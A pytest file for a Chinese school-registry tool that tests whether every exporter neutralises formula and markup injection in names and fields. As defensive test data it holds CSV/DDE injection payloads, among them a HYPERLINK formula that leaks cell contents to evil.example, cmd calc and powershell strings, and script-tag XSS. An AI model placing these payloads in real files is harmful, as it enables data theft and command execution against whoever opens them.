"""Names that are formulas or markup, through every exporter: they come out as text, or escaped."""

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from malice.exported import begins_a_formula, faults, faults_of_csv, texts
from registry.statistics_books import wide, write_set

from junheng import cli
from junheng.registry import tables
from junheng.registry.evidence_files import as_csv, survey
from junheng.registry.template import write_filled
from junheng.sample import make_county, make_years, marks_of
from junheng.schema import Kind

ON = ("--on", "2026-03-31")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "＝1+1",
    "@SUM(A1:A9)",
    "-2+3",
    "+cmd|' /C calc'!A0",
    "＠SUM(A1)",
    "－2+3",
    "＋1",
    "http://evil.example/",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "=cmd|'/C powershell'!'A1'",
)
DDE = "=cmd|'/C calc'!A0"


def hostile(rows: dict[str, list[dict[str, Any]]]) -> dict[str, list[dict[str, Any]]]:
    """The same county with hostile texts wherever anything may be written."""
    names: dict[str, str] = {}
    for number, row in enumerate(rows["register"]):
        names[row["school_code"]] = f"{HOSTILE[number % len(HOSTILE)]}小学{number}"
    for name, table in tables().items():
        free = [c.name for c in table.column if c.kind is Kind.TEXT and c.name not in table.key]
        free = [] if name == "corrections" else free
        for row in rows.get(name, []):
            for column in free:
                if column == "school_name":
                    row[column] = names.get(row.get("school_code"), row.get(column))
                elif column == "county_name":
                    row[column] = "=示例县"
                elif row.get(column) and column not in ("file_name", "document", "area_name"):
                    row[column] = f"={row[column]}"
    return rows


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("注入")


@pytest.fixture(scope="module")
def books(folder: Path) -> list[Path]:
    """Two years of one hostile county, and a second county in the later year."""
    made = []
    found = {
        f"县{year}": (year, rows)
        for year, rows in make_years(seed=3, schools=12, years=(2024, 2025)).items()
    }
    last = max(year for year, _ in found.values())
    second = make_county(seed=4, schools=9, year=last, code="410122", name="邻县")
    found["邻县"] = (last, second)
    for name, (year, rows) in found.items():
        marks = [
            (*mark[:4], DDE if mark[3] == "异常说明" else mark[4])
            for mark in marks_of(rows, year=year)
        ]
        made.append(folder / f"{name}.xlsx")
        write_filled(made[-1], hostile(rows), marks, year=year, county_name="=1+1县")
    return made


@pytest.fixture(scope="module")
def stores(books: list[Path], folder: Path) -> list[Path]:
    """One store a year; in the later one both counties."""
    first, *later = books
    found = []
    for name, paths, year in (("先", [first], 2024), ("后", later, 2025)):
        words = ["--year", str(year), "--by", DDE, "--on", f"{year}-10-20"]
        found.append(folder / name)
        assert cli.run(["seal", *map(str, paths), "-o", str(found[-1]), *words]) == 0
    return found


def years(out: Path, books: list[Path], stores: list[Path]) -> None:
    assert cli.run(["years", *map(str, stores), "-o", str(out)]) == 0


def screen(out: Path, books: list[Path], stores: list[Path]) -> None:
    assert cli.run(["screen", *map(str, stores), "-o", str(out)]) == 0


def assess(out: Path, books: list[Path], stores: list[Path]) -> None:
    assert cli.run(["assess", str(stores[1]), *ON, "-o", str(out)]) == 0


def targets(out: Path, books: list[Path], stores: list[Path]) -> None:
    words = ["targets", *map(str, stores), "--on", "2026-11-24", "-o", str(out)]
    assert cli.run(words) == 0


def class_size(out: Path, books: list[Path], stores: list[Path]) -> None:
    assert cli.run(["plan", "class-size", str(stores[0]), *ON, "-o", str(out)]) == 0


def documents_of_a_city(out: Path, books: list[Path], stores: list[Path]) -> None:
    kinds = [w for kind in ("city", "leader", "html") for w in ("--kind", kind)]
    words = ["report", *map(str, stores), *ON, *kinds, "--no-page-numbers", "-o", str(out)]
    assert cli.run(words) == 0


def documents(out: Path, books: list[Path], stores: list[Path]) -> None:
    kinds = [
        w
        for kind in ("html", "self", "form", "list", "index", "cards", "leader")
        for w in ("--kind", kind)
    ]
    words = ["report", str(stores[0]), *ON, *kinds, "--no-page-numbers", "-o", str(out)]
    assert cli.run(words) == 0


def template(out: Path, books: list[Path], stores: list[Path]) -> None:
    out.mkdir()
    words = ["template", str(out / "模板.xlsx"), "--from", str(books[0]), "--year", "2025"]
    assert cli.run([*words, "--county", "=1+1县"]) == 0


def one_a_school(out: Path, books: list[Path], stores: list[Path]) -> None:
    words = ["template", str(out), "--from", str(books[2]), "--year", "2026", "--per-school"]
    assert cli.run(words) == 0


def marked(out: Path, books: list[Path], stores: list[Path]) -> None:
    out.mkdir()
    csv = out.parent / "学校名册.csv"
    lines = [f'{n},"{text.replace(chr(34), chr(34) * 2)}"' for n, text in enumerate(HOSTILE)]
    csv.write_text("school_code,school_name\n" + "\n".join(lines), encoding="utf-8")
    assert cli.run(["check", str(csv), "--mark", str(out / "名册.xlsx")]) == 1
    words = ["check", str(books[1]), "--year", "2020", "--mark", str(out / "标注.xlsx")]
    assert cli.run(words) == 1


def imported(out: Path, books: list[Path], stores: list[Path]) -> None:
    out.mkdir()
    schools = [dict(each) for each in wide(make_county(seed=1, schools=24))]
    for number, each in enumerate(schools):
        each["school_name"] = f"{HOSTILE[number % len(HOSTILE)]}{number}"
    sets = out.parent / "统计"
    sets.mkdir()
    paths = write_set(sets, schools)
    words = ["--year", "2025", "--county", "410199", "--name", "=1+1县", "--partial"]
    words += ["-o", str(out / "导入.xlsx")]
    assert cli.run(["import", *map(str, paths), *words]) == 0


Export = Callable[[Path, list[Path], list[Path]], None]
EXPORTERS: list[Export] = [
    years, screen, assess, targets, class_size, documents, template, marked, imported,
]  # fmt: skip


LONG: list[Export] = [documents_of_a_city, one_a_school]


@pytest.mark.parametrize(
    "export",
    [
        *(pytest.param(each, marks=pytest.mark.slow, id=each.__name__) for each in EXPORTERS),
        *(pytest.param(each, marks=pytest.mark.prove, id=each.__name__) for each in LONG),
    ],
)
def test_no_exporter_lets_a_name_become_a_formula_or_markup(
    export: Export,
    books: list[Path], stores: list[Path], tmp_path: Path,
) -> None:  # fmt: skip
    out = tmp_path / "出"
    export(out, books, stores)
    written = [each for each in sorted(out.rglob("*")) if each.is_file()]
    assert written
    assert [fault for each in written for fault in faults(each)] == []
    told = "\n".join(texts(each) for each in written if each.suffix != ".parquet")
    if export not in (targets, screen):
        assert any(text in told for text in ("HYPERLINK", "＝1+1", "SUM(A1", "示例县"))
    for name in (each.name for each in written):
        assert not re.search(r'[\\/:*?"<>|]', name), "no name of a school steers a path"


def test_the_list_of_evidence_neutralises_names(tmp_path: Path) -> None:
    for name in ("=1+1.pdf", "＝1+1.pdf", "@SUM.pdf", "-2+3.pdf", "＋1.pdf", "−1.pdf", "实.pdf"):
        (tmp_path / name).write_bytes(b"x")
    text = as_csv(survey(tmp_path)).decode("utf-8-sig")
    assert list(faults_of_csv(text)) == []
    assert "'＝1+1.pdf" in text
    assert "\n实.pdf" in text


@pytest.mark.parametrize("text", ["=1", "＝1+1", "@x", "-2+3", "+a", "\t=1", "\r=1", "－2"])
def test_the_oracle_knows_a_formula(text: str) -> None:
    assert begins_a_formula(text)


@pytest.mark.parametrize("text", ["", "-2", "+1,200", "3-1", "-0.5%", "示例=1"])
def test_the_oracle_knows_what_is_none(text: str) -> None:
    assert not begins_a_formula(text)


def test_a_formula_in_a_filed_cell_is_named_and_its_command_is_not_run(tmp_path: Path) -> None:
    """DDE in a cell: the reader takes the stored result, never the formula."""
    from registry.handmade import Typed, minimal, write_book

    from junheng.registry import read

    rows = minimal(schools={"school_name": Typed("计算器", formula=DDE)})
    filing = read([write_book(tmp_path / "甲.xlsx", rows)])
    assert DDE not in {entry.value for r in filing.records for entry in r.entries.values()}
    assert filing.of("register")
